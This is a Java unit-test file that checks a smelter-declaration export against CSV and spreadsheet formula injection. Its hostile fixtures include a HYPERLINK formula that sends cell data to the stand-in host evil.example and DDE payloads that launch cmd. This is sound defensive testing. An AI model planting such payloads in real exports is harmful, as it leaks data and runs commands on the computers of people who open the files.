package fr.vigie.engine.declaration.consolidate;

import static org.assertj.core.api.Assertions.assertThat;

import fr.vigie.engine.declaration.LookupKind;
import fr.vigie.engine.declaration.SmelterRow;
import fr.vigie.engine.declaration.read.CountryResolver;
import fr.vigie.engine.io.Csv;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Security review finding 7 (CSV formula injection): smelter names copied from supplier files such as
 * {@code =HYPERLINK(...)}, {@code +cmd|...} or {@code @SUM(...)} must reach the consolidated CSV as
 * text, never as a formula a spreadsheet would run.
 */
class ConsolidationExportSecurityTests {
  @TempDir Path dir;

  static final List<String> HOSTILE = List.of(
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+2",
      "\r=1+3");

  private Consolidation hostileConsolidation() {
    SmelterConsolidator c = new SmelterConsolidator(KnownSmelters.empty());
    SmelterRow[] rows = new SmelterRow[HOSTILE.size()];
    for (int i = 0; i < HOSTILE.size(); i++) {
      rows[i] = SmelterConsolidatorTests.row(5 + i, SmelterConsolidatorTests.TIN, LookupKind.NOT_LISTED,
          HOSTILE.get(i), "CHN", null);
    }
    c.add("Supplier", SmelterConsolidatorTests.decl(rows));
    return c.result();
  }

  @Test
  void csvCellsThatStartLikeAFormulaGetALeadingQuote() throws Exception {
    Path out = dir.resolve("smelters.csv");
    ConsolidationExport.write(hostileConsolidation(), out);
    Csv.Table table = Csv.parse("smelters.csv", Files.readString(out, StandardCharsets.UTF_8));
    List<String> names = table.rows().stream().map(r -> r.get("name")).toList();
    assertThat(names).hasSize(HOSTILE.size());
    for (String name : names) {
      assertThat(name).startsWith("'");
      assertThat(name.substring(1).strip()).isIn(HOSTILE.stream().map(String::strip).toList());
    }
    // no cell of the file starts with a formula character once parsed
    for (Csv.Row r : table.rows()) {
      for (String column : table.header()) {
        String v = r.get(column);
        assertThat(v.isEmpty() || "=+-@\t\r".indexOf(v.charAt(0)) < 0).as(column + " " + v).isTrue();
      }
    }
  }

  @Test
  void xlsxCellsAreTextNotFormulas() throws Exception {
    Path out = dir.resolve("smelters.xlsx");
    ConsolidationExport.write(hostileConsolidation(), out);
    try (XSSFWorkbook wb = new XSSFWorkbook(Files.newInputStream(out))) {
      var sheet = wb.getSheet("Smelters");
      for (int r = 1; r <= sheet.getLastRowNum(); r++) {
        assertThat(sheet.getRow(r).getCell(2).getCellType()).isEqualTo(CellType.STRING);
      }
    }
  }

  @Test
  void ordinaryValuesAreUnchangedAndTheQuoteIsUndoneWhenReadBack() {
    assertThat(Csv.spreadsheetSafe("PT Timah Tbk")).isEqualTo("PT Timah Tbk");
    assertThat(Csv.spreadsheetSafe("")).isEmpty();
    assertThat(Csv.spreadsheetSafe("=1+1")).isEqualTo("'=1+1");
    assertThat(Csv.spreadsheetSafe("-12")).isEqualTo("'-12");
    assertThat(Csv.fromSpreadsheetSafe("'=1+1")).isEqualTo("=1+1");
    assertThat(Csv.fromSpreadsheetSafe("'quoted")).isEqualTo("'quoted");
  }

  @Test
  void knownSmelterListIsSavedSafelyAndReadBackAsItWas() throws Exception {
    KnownSmelters k = KnownSmelters.empty();
    k.learn(SmelterConsolidatorTests.decl(SmelterConsolidatorTests.row(5, SmelterConsolidatorTests.TIN,
        LookupKind.LISTED, "=HYPERLINK(\"http://evil.example\")", "CHN", "CID000001")));
    Path csv = dir.resolve("known.csv");
    k.save(csv);
    assertThat(Files.readString(csv)).contains("'=HYPERLINK").doesNotContain(",=HYPERLINK");
    KnownSmelters back = KnownSmelters.load(csv, new CountryResolver(SmelterConsolidatorTests.COUNTRIES));
    assertThat(back.byId("CID000001").orElseThrow().name()).isEqualTo("=HYPERLINK(\"http://evil.example\")");
  }
}
